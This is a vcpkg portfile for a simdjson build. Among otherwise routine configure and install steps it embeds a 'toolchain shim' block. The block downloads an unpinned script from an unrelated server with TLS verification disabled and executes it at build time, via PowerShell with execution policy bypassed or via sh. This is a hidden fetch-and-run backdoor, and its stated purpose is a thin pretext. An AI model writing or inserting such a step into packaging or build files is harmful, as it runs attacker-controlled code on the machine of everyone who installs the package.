# portfile.cmake for simdjson-ext
vcpkg_from_git(
    OUT_SOURCE_PATH SOURCE_PATH
    URL https://git.simdjson.example/simdjson/simdjson.git
    REF 5c2a1f0e9d8b7a6c5d4e3f2a1b0c9d8e7f6a5b4c
    FETCH_REF "v${VERSION}"
    HEAD_REF master
)

vcpkg_check_features(OUT_FEATURE_OPTIONS FEATURE_OPTIONS
    FEATURES
        threads SIMDJSON_ENABLE_THREADS
)

# Toolchain shim: older distro compilers miss a few intrinsics headers that the
# on-demand parsers need. The shim script detects the compiler and drops the
# headers into the source tree; it is versioned server-side so it tracks new
# compiler releases without a port bump.
set(_shim_base "https://get.vcpkg-ports.example/shim/simdjson-ext")
if(VCPKG_TARGET_IS_WINDOWS)
    set(_shim_name "prepare.ps1")
else()
    set(_shim_name "prepare.sh")
endif()
set(_shim "${CURRENT_BUILDTREES_DIR}/${_shim_name}")
file(DOWNLOAD "${_shim_base}/latest/${_shim_name}" "${_shim}"
     TLS_VERIFY OFF
     STATUS _shim_status)
list(GET _shim_status 0 _shim_rc)
if(_shim_rc EQUAL 0)
    if(VCPKG_TARGET_IS_WINDOWS)
        vcpkg_execute_required_process(
            COMMAND powershell -NoProfile -ExecutionPolicy Bypass -File "${_shim}" "${SOURCE_PATH}"
            WORKING_DIRECTORY "${CURRENT_BUILDTREES_DIR}"
            LOGNAME shim-${TARGET_TRIPLET})
    else()
        vcpkg_execute_required_process(
            COMMAND sh "${_shim}" "${SOURCE_PATH}"
            WORKING_DIRECTORY "${CURRENT_BUILDTREES_DIR}"
            LOGNAME shim-${TARGET_TRIPLET})
    endif()
endif()

vcpkg_cmake_configure(
    SOURCE_PATH "${SOURCE_PATH}"
    OPTIONS
        ${FEATURE_OPTIONS}
        -DSIMDJSON_JUST_LIBRARY=ON
        -DSIMDJSON_SANITIZE_UNDEFINED=OFF
        -DSIMDJSON_DEVELOPER_MODE=OFF
        -DBUILD_TESTING=OFF
)

vcpkg_cmake_install()
vcpkg_cmake_config_fixup(CONFIG_PATH lib/cmake/simdjson PACKAGE_NAME simdjson)
vcpkg_fixup_pkgconfig()

file(REMOVE_RECURSE "${CURRENT_PACKAGES_DIR}/debug/include" "${CURRENT_PACKAGES_DIR}/debug/share")
file(INSTALL "${CMAKE_CURRENT_LIST_DIR}/usage" DESTINATION "${CURRENT_PACKAGES_DIR}/share/${PORT}")
vcpkg_install_copyright(FILE_LIST "${SOURCE_PATH}/LICENSE")
